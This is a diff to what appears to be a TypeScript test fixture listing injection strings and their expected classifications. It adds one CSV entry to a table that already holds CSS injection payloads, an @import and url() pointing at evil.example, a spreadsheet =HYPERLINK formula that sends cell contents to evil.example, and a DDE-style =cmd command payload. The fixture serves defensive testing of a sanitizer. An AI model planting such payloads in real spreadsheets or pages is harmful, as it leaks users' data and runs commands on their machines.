@@ -55,6 +55,7 @@ export const texts: TextAttack[] = [
   ['css', '}*{background:url(//evil.example/x)}/*', 'inert', 'inert'],
   ['css', '</style><style>*{display:none}', 'inert', 'raw-html'],
   ['css', 'expression(alert(1)) @import "//evil.example"', 'inert', 'citation-syntax'],
+  ['csv', '"-2+3', 'inert', 'quotation-unbalanced'],
   ['csv', '=HYPERLINK("https://evil.example/?"&A1,"a")', 'inert', 'bare-address'],
   ['csv', "=cmd|'/C calc'!A0", 'inert', 'inert'],
   ['csv', '@SUM(1+1)*cmd|x', 'inert', 'inert'],
